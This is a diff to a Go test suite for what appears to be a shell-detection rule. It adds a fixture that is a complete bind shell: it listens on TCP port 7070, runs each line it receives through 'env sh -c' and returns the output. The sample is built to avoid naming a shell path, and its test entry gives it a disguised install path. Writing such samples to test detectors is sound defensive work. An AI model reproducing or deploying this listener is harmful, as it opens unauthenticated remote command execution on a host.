@@ -88,6 +88,43 @@ func main() {
 	}
 }
 `
+	// a listener handing each line a client sends to env sh -c through textproto, sending the
+	// combined output back: names no shell by its path
+	goTextprotoAgent = `package main
+
+import (
+	"bufio"
+	"net"
+	"net/textproto"
+	"os/exec"
+)
+
+func serve(c net.Conn) {
+	tp := textproto.NewReader(bufio.NewReader(c))
+	for {
+		line, err := tp.ReadLine()
+		if err != nil {
+			break
+		}
+		out, _ := exec.Command("env", "sh", "-c", line).CombinedOutput()
+		c.Write(out)
+	}
+	c.Close()
+}
+
+func main() {
+	ln, err := net.Listen("tcp", ":7070")
+	if err != nil {
+		return
+	}
+	for {
+		c, err := ln.Accept()
+		if err == nil {
+			go serve(c)
+		}
+	}
+}
+`
 	goTLSAgent = `package main
 
 import (
@@ -510,6 +547,7 @@ func TestCompiledBehaviour(t *testing.T) {
 		{"stripped go line agent", "go", goLineAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
 		{"go tls agent running sh -c", "go", goTLSAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/bin/tls-agent", "STRATA-RS-021/high"},
 		{"go json orders on a listener", "go", goJSONAgent, nil, "/opt/svc/svc", "STRATA-RS-021/high"},
+		{"go textproto line agent", "go", goTextprotoAgent, []string{"-trimpath", "-ldflags=-s -w"}, "/usr/local/sbin/netd", "STRATA-RS-021/high"},
 		{"go line agent among many functions", "go", goLineAgent + manyFuncs(120), []string{"-ldflags=-s -w"}, "/usr/bin/dbus-helper", "STRATA-RS-021/high"},
 		{"go wait-for-port exec", "go", goWaitFor, nil, "/usr/local/bin/wait-for", ""},
 		{"go banner watch restarting a service", "go", goBannerWatch, []string{"-ldflags=-s -w"}, "/usr/local/bin/smtp-watch", ""},
